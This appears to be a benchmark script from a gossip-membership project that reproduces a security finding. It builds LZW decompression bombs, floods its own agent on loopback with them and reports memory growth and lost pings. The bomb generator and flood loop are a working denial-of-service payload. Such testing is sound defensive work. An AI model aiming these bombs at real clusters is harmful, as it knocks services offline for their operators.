"""LZW bomb flood against a live agent: RSS and lost pings (issue 10, finding 3).

    python -m bench.lzw_attack [--rate 30] [--seconds 10] [--bombs 31]

Starts `swimguard agent` as a child process on 127.0.0.1, then for `--seconds`
sends `--rate` packets a second, each one compound of `--bombs` LZW bombs (every
bomb a ~2 KB compress message expanding to just over the 1 MiB per-packet
budget). Meanwhile a second socket pings the agent every 100 ms; a ping whose ack
does not come back within 500 ms (memberlist's LAN probe timeout) counts as lost.
Prints the agent's RSS at start, its peak during the attack, and 5 s after it.
"""

from __future__ import annotations

import argparse
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Sequence

import psutil

from bench.procs import LOOPBACK, free_ports
from swimguard.wire import AckResp, Ping, decode_packet, make_compound
from swimguard.wire.messages import Compress, MessageType, encode_body

PING_INTERVAL = 0.1
ACK_TIMEOUT = 0.5
BUDGET = 1 << 20


def pack_codes(codes: Sequence[int]) -> bytes:
    """LZW codes packed LSB first with Go's width rules (9 bits after a clear, grows)."""
    out = bytearray()
    acc = nbits = 0
    width, hi, overflow = 9, 257, 512
    for code in codes:
        acc |= code << nbits
        nbits += width
        while nbits >= 8:
            out.append(acc & 0xFF)
            acc >>= 8
            nbits -= 8
        if code == 256:
            width, hi, overflow = 9, 257, 512
        elif code != 257:
            hi += 1
            if hi == overflow and width < 12:
                width += 1
                overflow <<= 1
    if nbits:
        out.append(acc & 0xFF)
    return bytes(out)


def bomb_message(min_output: int = BUDGET + 1) -> bytes:
    """A compress message whose stream expands to at least `min_output` zero bytes.

    Code 258 + k expands to k + 2 zeros, so a few thousand codes give megabytes.
    """
    codes = [256, 0]
    total, code = 1, 258
    while total < min_output:
        total += code - 256
        codes.append(code)
        code += 1
    codes.append(257)
    return bytes((MessageType.COMPRESS,)) + encode_body(Compress(buf=pack_codes(codes)))


def bomb_packet(bombs: int) -> bytes:
    """One compound datagram of `bombs` bombs."""
    return make_compound([bomb_message()] * bombs)


def _rss(proc: psutil.Process) -> int:
    return int(proc.memory_info().rss)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.lzw_attack", description=__doc__)
    parser.add_argument("--rate", type=float, default=30.0, help="bomb packets per second")
    parser.add_argument("--seconds", type=float, default=10.0, help="attack duration")
    parser.add_argument("--bombs", type=int, default=31, help="bombs per packet")
    args = parser.parse_args(argv)

    packet = bomb_packet(args.bombs)
    port = free_ports(1)[0]
    child = subprocess.Popen(
        [sys.executable, "-m", "swimguard", "agent", "--name", "victim",
         "--bind", f"{LOOPBACK}:{port}", "--log-level", "ERROR", "--rpc-addr", ""],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    try:
        assert child.stdout is not None
        child.stdout.readline()  # its own member-join: the agent is up
        proc = psutil.Process(child.pid)
        time.sleep(1.0)
        start_rss = _rss(proc)
        target = (LOOPBACK, port)

        pinger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        pinger.bind((LOOPBACK, 0))
        pinger.settimeout(0.05)
        sent_at: dict[int, float] = {}
        acked: set[int] = set()
        done = threading.Event()

        def ping_loop() -> None:
            seq = 0
            next_ping = time.monotonic()
            while not done.is_set():
                now = time.monotonic()
                if now >= next_ping:
                    seq += 1
                    sent_at[seq] = now
                    ping = bytes((MessageType.PING,)) + encode_body(Ping(seq_no=seq))
                    pinger.sendto(ping, target)
                    next_ping += PING_INTERVAL
                try:
                    data = pinger.recv(65536)
                except TimeoutError:
                    continue
                arrived = time.monotonic()
                for msg in decode_packet(data, errors=[]):
                    if not isinstance(msg, AckResp):
                        continue  # gossip piggybacked on the ack
                    if arrived - sent_at.get(msg.seq_no, 0) <= ACK_TIMEOUT:
                        acked.add(msg.seq_no)

        peak = start_rss
        thread = threading.Thread(target=ping_loop, daemon=True)
        thread.start()
        attacker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        began = time.monotonic()
        sent = 0
        while (elapsed := time.monotonic() - began) < args.seconds:
            while sent < elapsed * args.rate:
                attacker.sendto(packet, target)
                sent += 1
            peak = max(peak, _rss(proc))
            time.sleep(0.02)
        attack_pings = len(sent_at)
        time.sleep(ACK_TIMEOUT + 0.2)
        done.set()
        thread.join()
        lost = sum(1 for seq in range(1, attack_pings + 1) if seq not in acked)
        for _ in range(50):
            peak = max(peak, _rss(proc))
            time.sleep(0.1)
        after_rss = _rss(proc)
        alive = child.poll() is None
        mib = 1 << 20
        print(f"packet: {len(packet)} bytes, {args.bombs} bombs; sent {sent} packets "
              f"in {args.seconds:.0f}s")
        print(f"RSS start {start_rss / mib:.0f} MiB, peak {peak / mib:.0f} MiB, "
              f"5 s after {after_rss / mib:.0f} MiB; agent alive: {alive}")
        print(f"pings lost: {lost} of {attack_pings} (no ack within {ACK_TIMEOUT * 1000:.0f} ms)")
        attacker.close()
        pinger.close()
    finally:
        child.terminate()
        try:
            child.wait(10)
        except subprocess.TimeoutExpired:
            child.kill()
            child.wait()
    return 0


if __name__ == "__main__":
    sys.exit(main())
